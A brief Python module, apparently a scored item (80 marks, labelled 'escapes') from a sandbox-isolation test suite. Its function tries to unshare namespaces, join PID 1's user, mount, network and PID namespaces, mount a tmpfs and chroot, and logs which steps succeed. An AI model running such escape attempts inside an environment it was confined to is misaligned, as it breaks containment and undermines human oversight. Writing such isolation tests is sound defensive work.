"""Makes itself root of namespaces of its own, enters others, and mounts.

marks: 80
outside: escapes
"""

import ctypes
import os


def attempt():
    libc = ctypes.CDLL(None, use_errno=True)
    got = []
    for flag in (0x10000000, 0x20000, 0x40000000, 0x8000000, 0x20000000, 0x2000000):
        if libc.unshare(flag) == 0:
            got.append(hex(flag))
    for name in ("user", "mnt", "net", "pid"):
        try:
            descriptor = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
            got.append((name, libc.setns(descriptor, 0)))
        except OSError:
            continue
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
        libc.umount(b"/tmp")
        got.append("mount")
    if libc.chroot(b"/") == 0:
        got.append("chroot")
    return got
